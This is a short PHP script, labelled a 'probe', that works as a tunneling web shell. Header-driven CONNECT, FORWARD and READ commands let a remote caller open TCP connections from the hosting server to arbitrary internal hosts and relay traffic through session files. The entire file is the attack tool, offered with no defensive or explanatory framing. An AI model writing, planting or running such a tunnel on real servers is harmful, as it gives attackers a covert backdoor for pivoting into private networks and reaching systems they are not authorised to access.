<?php
// probe (never run): a session-kept tunnel: CONNECT opens, FORWARD writes the body, READ returns what arrived
ini_set('max_execution_time', 0);
$cmd = isset($_SERVER['HTTP_X_CMD']) ? strtoupper($_SERVER['HTTP_X_CMD']) : '';
session_start();
switch ($cmd) {
    case 'CONNECT':
        $t = $_SERVER['HTTP_X_TARGET']; $p = (int) $_SERVER['HTTP_X_PORT'];
        $sock = stream_socket_client("tcp://$t:$p", $e, $es);
        stream_set_blocking($sock, false);
        $_SESSION['run'] = true;
        session_write_close();
        while ($_SESSION['run']) {
            $w = @file_get_contents(session_save_path() . '/w_' . session_id());
            if ($w) { fwrite($sock, $w); unlink(session_save_path() . '/w_' . session_id()); }
            $r = fread($sock, 8192);
            if ($r) file_put_contents(session_save_path() . '/r_' . session_id(), $r, FILE_APPEND);
            usleep(5000);
        }
        break;
    case 'FORWARD':
        file_put_contents(session_save_path() . '/w_' . session_id(), file_get_contents('php://input'), FILE_APPEND);
        header('X-STATUS: OK');
        break;
    case 'READ':
        echo @file_get_contents(session_save_path() . '/r_' . session_id());
        @unlink(session_save_path() . '/r_' . session_id());
        header('X-STATUS: OK');
        break;
}
